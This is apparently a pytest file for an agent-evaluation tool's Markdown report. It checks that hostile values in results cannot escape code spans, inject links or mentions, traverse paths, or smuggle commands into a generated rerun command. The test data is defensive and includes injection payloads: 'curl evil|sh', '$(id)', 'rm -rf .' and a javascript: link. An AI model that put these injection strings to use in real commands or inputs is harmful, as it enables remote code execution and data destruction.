"""What somebody would put into results so that a comment is more than text: limits of renderers, shells, browsers."""

from __future__ import annotations

import shlex
import time

import pytest
from markdown_pages import nothing_of_theirs, rendered
from report_samples import case, metric, report

from agent_eval.report import escape
from agent_eval.report.comment import comment_markdown
from agent_eval.report.markdown import LONGEST_PATH, reproduce
from agent_eval.report.sections import Links
from agent_eval.results.recording import RunError
from agent_eval.results.report import CaseReport

SERVER = "https://github.com"
OURS = f"{SERVER}/octo/shop/"
LINKS = Links(server_url=SERVER, repository="octo/shop", source_url=f"{OURS}blob/{'a' * 40}")
PAYLOAD = "![x](https://evil.example/x.png) @octocat closes #1 <b>x</b> [y](javascript:z)"


def failing(**changes: object) -> CaseReport:
    made = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
    return made.model_copy(update=changes)


@pytest.mark.parametrize("ticks", [1, 78, 79, 80, 81, 150])
def test_code__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    for value in ("`" * ticks + PAYLOAD, PAYLOAD + "`" * ticks, "`" * ticks + PAYLOAD + "`" * ticks):
        page = rendered(f"x {escape.code(value)} y")
        assert page.tags == ["p", "code"]
        assert page.text.replace("\u200b", "").strip() == f"x {value} y"


@pytest.mark.parametrize("ticks", [3, 100, 200, 201, 254, 255, 256, 1_000])
def test_fence__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    value = "a\n" + "`" * ticks + "\n" + PAYLOAD
    page = rendered(f"{escape.fence(value, 'text')}\n\nafter\n")

    assert page.tags == ["pre", "code", "p"]
    assert PAYLOAD in page.text
    assert ("…" in page.text) == (ticks > 200)


def test_comment__no_text_gets_out_by_backticks() -> None:
    log = "a\n" + "`" * 300 + "\n" + PAYLOAD
    error = RunError(kind="agent-exception", owner="agent", message="`" * 90 + PAYLOAD, traceback=log)
    crashed = failing(eval_id="`" * 80 + PAYLOAD, file="`" * 99 + PAYLOAD)
    runs = [run.model_copy(update={"status": "errored", "error": error}) for run in crashed.runs]
    text = comment_markdown(report("failed", [crashed.model_copy(update={"runs": runs})]), links=LINKS)

    assert "closes" in nothing_of_theirs(text, OURS).text


@pytest.mark.parametrize(
    "file", ["../../../../../logout", "a/../../../../../x.json", "/x", "a//x", "./x", ".", "a/.\x1b[0m./x", ""]
)
def test_comment__a_path_leads_nowhere_else(file: str) -> None:
    text = comment_markdown(report("failed", [failing(file=file)]), links=LINKS)
    assert rendered(text).links == []
    assert rendered(comment_markdown(report("failed", [failing(file="a/b..json")]), links=LINKS)).links != []


@pytest.mark.parametrize("sign", ["\u202e", "`", "x", "\n", "a\u0301", "é"])
def test_comment__a_path_of_megabytes_costs_no_minutes(sign: str) -> None:
    begun = time.monotonic()
    text = comment_markdown(report("failed", [failing(file=sign * 2_000_000)]), links=LINKS)

    assert time.monotonic() - begun < 3
    assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still told"


def test_comment__a_path_of_ordinary_length_is_a_link() -> None:
    path = "d/" * (LONGEST_PATH // 2 - 5) + "a.json"
    page = rendered(comment_markdown(report("failed", [failing(file=path, line=1)]), links=LINKS))

    assert any(link.endswith("a.json#L1") for link in page.links)


@pytest.mark.parametrize(
    ("file", "command"),
    [
        ("evals/a.test.json", "agent-eval run evals/a.test.json:door"),
        ("--agent-setup=curl evil|sh;#.json", "agent-eval run './--agent-setup=curl evil|sh;#.json:door'"),
        ("-x/a.json", "agent-eval run ./-x/a.json:door"),
        ("$(id).json", "agent-eval run '$(id).json:door'"),
        ("a.json\nrm -rf .", ""),
        ("a\u202e.json", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str, command: str) -> None:
    told = reproduce([failing(file=file)])

    assert told == command
    assert not any(word.startswith("-") for word in shlex.split(told)[2:])


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        (f"{OURS}actions/runs/17", True),
        ("https://github.com/Octo/Shop/actions/runs/17", True),
        ("https://github.com/evil/shop/releases/download/v1/x.exe", False),
        ("https://github.com/octo/shop/../../evil/shop", False),
        ("https://github.com/octo/shop/%2e%2E/../evil", False),
        ("https://github.com/octo/shop\\..\\..\\evil", False),
        ("https://github.com/octo/shopping", False),
        ("https://github.com/octo", False),
        ("https://github.com/login?return_to=/octo/shop/", False),
    ],
)
def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: bool) -> None:
    assert LINKS.own(url) == (url if allowed else None)
    assert Links(server_url=SERVER).own(url) is None, "of an unknown repository there is none"
